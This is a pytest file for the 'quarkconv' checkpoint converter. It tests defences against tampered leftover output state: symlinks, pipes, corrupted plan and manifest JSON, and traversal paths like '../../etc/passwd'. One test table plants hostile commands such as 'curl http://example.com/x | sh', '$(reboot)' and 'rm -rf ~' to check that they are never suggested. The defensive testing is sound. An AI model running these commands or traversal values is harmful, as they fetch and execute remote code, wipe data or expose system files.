"""The output directory is input too: what is left of an earlier conversion may have been left by somebody else."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support.checkpoints import make_checkpoint
from support.conversions import convert, fill_the_disk_later
from support.program import run_cli, snapshot

from quarkconv import SourceError, UsageError, convert_checkpoint, inspect_checkpoint
from quarkconv.plan.manifest import read_manifest

pytestmark = pytest.mark.long(10)

STAGING = ".quarkconv"


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A checkpoint that becomes three shards."""
    folder = tmp_path_factory.mktemp("state") / "model"
    return make_checkpoint(folder, layers=3, experts=4, hidden=1024, intermediate=512, shards=2)


@pytest.fixture(scope="module")
def begun(model: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A conversion of it that has not come to its end."""
    out = tmp_path_factory.mktemp("begun") / "out"
    fill_the_disk_later(model, out, 4)
    return out


@pytest.fixture
def unfinished(begun: Path, tmp_path: Path) -> Path:
    shutil.copytree(begun, tmp_path / "out")
    return tmp_path / "out"


def victim(tmp_path: Path) -> Path:
    path = tmp_path / "home" / "precious.txt"
    path.parent.mkdir()
    path.write_text("precious")
    return path


@pytest.mark.parametrize(
    "name",
    [
        f"{STAGING}/lock", f"{STAGING}/plan.json", f"{STAGING}/parts/model-00003-of-00003.safetensors",
        f"{STAGING}/parts/config.json", f"{STAGING}/files/config.json", f"{STAGING}/notes/x.json", "config.json",
        "x.txt",
    ],
)  # fmt: skip
@pytest.mark.parametrize("overwrite", [False, True])
def test_a_link_in_the_output_is_never_written_through(
    name: str, overwrite: bool, model: Path, unfinished: Path, tmp_path: Path
) -> None:
    precious = victim(tmp_path)
    (unfinished / name).unlink(missing_ok=True)
    (unfinished / name).parent.mkdir(exist_ok=True)
    (unfinished / name).symlink_to(precious)
    with pytest.raises(UsageError, match="other than files and folders") as caught:
        convert(model, unfinished, overwrite=overwrite)
    assert caught.value.found == f"a link: {name}"
    assert precious.read_text() == "precious"
    assert (unfinished / name).is_symlink()


@pytest.mark.parametrize("name", [STAGING, f"{STAGING}/parts", f"{STAGING}/files", f"{STAGING}/notes", "figures"])
@pytest.mark.parametrize("overwrite", [False, True])
def test_a_folder_of_the_output_that_is_a_link_is_never_entered(
    name: str, overwrite: bool, model: Path, unfinished: Path, tmp_path: Path
) -> None:
    precious = victim(tmp_path)
    shutil.rmtree(unfinished / name, ignore_errors=True)
    (unfinished / name).symlink_to(precious.parent)
    before = snapshot(precious.parent)
    with pytest.raises(UsageError, match="other than files and folders"):
        convert(model, unfinished, overwrite=overwrite)
    assert snapshot(precious.parent) == before


def test_a_pipe_in_the_output_is_not_waited_for(model: Path, unfinished: Path) -> None:
    for name in ("lock", "plan.json", "notes/x.json"):
        path = unfinished / STAGING / name
        path.unlink(missing_ok=True)
        os.mkfifo(path)
        with pytest.raises(UsageError, match="other than files and folders"):
            convert(model, unfinished)
        path.unlink()


def test_overwrite_deletes_nothing_through_a_link(model: Path, tmp_path: Path) -> None:
    """A manifest may name files of a folder that is a link."""
    precious = victim(tmp_path)
    out = convert_checkpoint(model, "fused-int8", tmp_path / "out").output
    value = json.loads((out / "quarkconv.json").read_text())
    value["files"].append(["sub/precious.txt", 8, "0" * 32])
    (out / "quarkconv.json").write_text(json.dumps(value))
    (out / "sub").symlink_to(precious.parent)
    with pytest.raises(UsageError, match="other than files and folders"):
        convert(model, out, overwrite=True)
    assert precious.exists()
    assert (out / "config.json").exists()


# The state


STATES: dict[str, bytes | None] = {
    "cut in half": None,
    "empty": b"",
    "a list": b"[]",
    "not JSON": b"{",
    "not UTF-8": b'{"plan":"\xff"}',
    "nested 100,000 deep": b'{"plan":' * 100_000,
    "no fields": b"{}",
    "wrong types": json.dumps(
        {"plan": 1, "sources": {"a": []}, "quarkconv": None, "target": ["x" * 10_000], "max_shard_size": {}}
    ).encode(),
    "names of sources that are numbers": json.dumps({"sources": [[1, 2, 3], [None, 1, 1]]}).encode(),
    "sources of wrong lengths": json.dumps({"sources": [[1, 2]]}).encode(),
    "of a version of the future": json.dumps({"quarkconv": "99.0", "plan": "0" * 64, "format": 7}).encode(),
    "17 MB": b" " * 2**24 + b"{}  ",
}


@pytest.mark.parametrize("name", STATES)
def test_an_invalid_state_is_refused_and_overwrite_starts_over(
    name: str, model: Path, unfinished: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = unfinished / STAGING / "plan.json"
    data = STATES[name]
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2] if data is None else data)
    before = snapshot(unfinished)
    with pytest.raises(UsageError, match="a different unfinished conversion") as caught:
        convert(model, unfinished)
    assert len(str(caught.value)) < 2000
    assert "--overwrite" in (caught.value.hint or "")
    after = snapshot(unfinished)
    assert {key for key in before if before[key] != after[key]} <= {f"{STAGING}/lock"}
    code, _, stderr = run_cli(capsys, "inspect", unfinished)
    assert code == 3
    assert "unfinished conversion" in stderr
    convert(model, unfinished, overwrite=True)
    assert snapshot(unfinished) == snapshot(convert(model, tmp_path / "plain"))


COMMANDS = {
    "another program": "curl http://example.com/x | sh",
    "another program behind it": "quarkconv convert m --to fused-int8 --out o; reboot",
    "a substitution": "quarkconv convert $(reboot) --to fused-int8",
    "another command": "quarkconv verify m",
    "another option": "quarkconv convert m --to fused-int8 --out / --overwrite",
    "an escape": "quarkconv convert m\x1b[8m",
    "a line end": "quarkconv convert m\nrm -rf ~",
    "a list": ["rm"],
    "half a quotation": "quarkconv convert 'm",
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_planted_command_is_not_suggested(name: str, unfinished: Path) -> None:
    path = unfinished / STAGING / "plan.json"
    state = json.loads(path.read_text())
    path.write_text(json.dumps({**state, "command": COMMANDS[name]}))
    with pytest.raises(SourceError) as caught:
        inspect_checkpoint(unfinished)
    hint = caught.value.hint or ""
    if name in ("another program behind it", "a substitution"):  # arguments of ours, and quoted as such
        assert any(quoted in hint for quoted in ("'o;'", "'$(reboot)'"))
    else:
        assert hint.startswith("run the same `quarkconv convert` command again")


def change_note(change: Callable[[dict[str, Any]], object]) -> Callable[[Path], object]:
    def corrupt(path: Path) -> None:
        note = json.loads(path.read_text())
        change(note)
        path.write_text(json.dumps(note))

    return corrupt


NOTES: dict[str, Callable[[Path], object]] = {
    "cut in half": lambda path: os.truncate(path, path.stat().st_size // 2),
    "nested 100,000 deep": lambda path: path.write_bytes(b"[" * 100_000),
    "a list": lambda path: path.write_text("[]"),
    "of another plan": change_note(lambda note: note.update(plan="0" * 64)),
    "a checksum that is a number": change_note(lambda note: note["pieces"][0].__setitem__(0, 1)),
    "a checksum of another length": change_note(lambda note: note["pieces"][0].__setitem__(0, "0")),
    "a checksum that is a path": change_note(lambda note: note.update(header="../../../../../../../etc/passwd")),
    "pieces that are missing": change_note(lambda note: note["pieces"][0].clear()),
    "tensors that are missing": change_note(lambda note: note["pieces"].clear()),
    "pieces null": change_note(lambda note: note.update(pieces=None)),
}


@pytest.mark.parametrize("name", NOTES)
def test_a_shard_with_an_invalid_note_is_written_again(
    name: str, model: Path, unfinished: Path, tmp_path: Path
) -> None:
    notes = sorted((unfinished / STAGING / "notes").iterdir())
    assert notes
    NOTES[name](notes[0])
    assert snapshot(convert(model, unfinished)) == snapshot(convert(model, tmp_path / "plain"))


def test_verify_finds_a_tampered_checksum(model: Path, unfinished: Path, capsys: Any) -> None:
    """A note that is well-formed is believed while resuming; what it says is proved afterwards."""
    note = min((unfinished / STAGING / "notes").iterdir())
    change_note(lambda value: value["pieces"][0].__setitem__(0, "0" * 32))(note)
    convert(model, unfinished)
    code, stdout, _ = run_cli(capsys, "verify", unfinished, "--json", "--layers", "0", "--tokens", "1")
    assert code == 1
    assert "checksum" in stdout


# The manifest


@pytest.fixture(scope="module")
def converted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("converted")
    return convert_checkpoint(make_checkpoint(folder / "model"), "fused-int8", folder / "out").output


def first_piece(value: dict[str, Any]) -> list[Any]:
    """A piece of the manifest and its checksum."""
    pair: list[Any] = value["shards"][0]["tensors"][0]["pieces"][0]
    return pair


def first_copy(value: dict[str, Any]) -> list[Any]:
    """``["copy", source tensor, number in sources, start, nbytes]``."""
    row: list[Any] = first_piece(value)[0]
    return row


MANIFESTS: dict[str, Callable[[dict[str, Any]], object]] = {
    "a version of the future": lambda value: value.update(format="quarkconv.plan.manifest/9"),
    "a version nested 90 deep": lambda value: value.update(format=json.loads("[" * 90 + "]" * 90)),
    "an invalid checksum": lambda value: first_piece(value).__setitem__(1, "x" * 32),
    "a checksum of another length": lambda value: first_piece(value).__setitem__(1, "0" * 31),
    "an invalid checksum of a header": lambda value: value["shards"][0]["header"].__setitem__(1, ""),
    "an invalid checksum of a file": lambda value: value["files"][0].__setitem__(2, "sha256:0"),
    "a range of 2^64 bytes": lambda value: first_copy(value).__setitem__(4, 2**64),
    "a range that starts before the file": lambda value: first_copy(value).__setitem__(3, -8),
    "a source out of the directory": lambda value: value["sources"][0].__setitem__(0, "../../etc/passwd"),
    "a shard out of the directory": lambda value: value["shards"][0].update(file="/etc/passwd"),
    "a file out of the directory": lambda value: value["files"][0].__setitem__(0, "sub/../../x"),
    "a file with half a surrogate pair": lambda value: value["files"][0].__setitem__(0, "a\ud800"),
    "a file with NUL": lambda value: value["files"][0].__setitem__(0, "a\0b"),
}


@pytest.mark.parametrize("name", MANIFESTS)
def test_an_inconsistent_manifest_is_refused(
    name: str, converted: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = shutil.copytree(converted, tmp_path / "out")
    value = json.loads((folder / "quarkconv.json").read_text())
    MANIFESTS[name](value)
    (folder / "quarkconv.json").write_text(json.dumps(value))
    with pytest.raises(SourceError) as caught:
        read_manifest(folder)
    assert caught.value.code == "manifest-invalid"
    assert len(str(caught.value)) < 1000
    code, _, stderr = run_cli(capsys, "verify", folder)
    assert code == 3
    assert "Traceback" not in stderr
    before = snapshot(folder)
    with pytest.raises(UsageError):
        convert(converted.parent / "model", folder, overwrite=True)
    after = snapshot(folder)
    after.pop(f"{STAGING}/lock", None)
    assert after == before


TAMPERED: dict[str, Callable[[dict[str, Any]], object]] = {
    "a checksum": lambda value: first_piece(value).__setitem__(1, "0" * 32),
    "a checksum of a header": lambda value: value["shards"][0]["header"].__setitem__(1, "0" * 32),
    "a checksum of a file": lambda value: value["files"][0].__setitem__(2, "0" * 32),
    "a shape": lambda value: value["shards"][0]["tensors"][0].update(shape=[1, 2, 3]),
    "a dtype": lambda value: value["shards"][0]["tensors"][0].update(dtype="U8"),
    "a size": lambda value: value["shards"][0].update(size=1),
    "the length of a piece": lambda value: first_copy(value).__setitem__(4, 8),
    "a length of no end": lambda value: first_copy(value).__setitem__(4, 2**62),
    "repeats without end": lambda value: first_piece(value).__setitem__(0, ["rows", *first_copy(value)[1:], "", 2**62]),
    "a tensor that is missing": lambda value: value["shards"][0]["tensors"].pop(),
    "a shard that is missing": lambda value: value["shards"].clear(),
    "a file that is not there": lambda value: value["files"].append(["x.bin", 1, "0" * 32]),
}


@pytest.mark.parametrize("name", TAMPERED)
def test_a_tampered_manifest_is_a_mismatch(
    name: str, converted: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = shutil.copytree(converted, tmp_path / "out")
    value = json.loads((folder / "quarkconv.json").read_text())
    TAMPERED[name](value)
    (folder / "quarkconv.json").write_text(json.dumps(value))
    source = converted.parent / "model"
    without: list[str | Path] = []
    for more in (without, ["--source", source]):
        code, stdout, stderr = run_cli(capsys, "verify", folder, "--json", "--layers", "0", "--tokens", "1", *more)
        assert code == 1, stderr
        assert json.loads(stdout)


def test_wrong_source_ranges_are_found_with_the_source(
    converted: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = shutil.copytree(converted, tmp_path / "out")
    value = json.loads((folder / "quarkconv.json").read_text())
    first_copy(value)[3] += 1
    (folder / "quarkconv.json").write_text(json.dumps(value))
    code, stdout, _ = run_cli(
        capsys, "verify", folder, "--json", "--tokens", "1", "--source", converted.parent / "model"
    )
    assert code == 1
    assert "differ from the source" in stdout
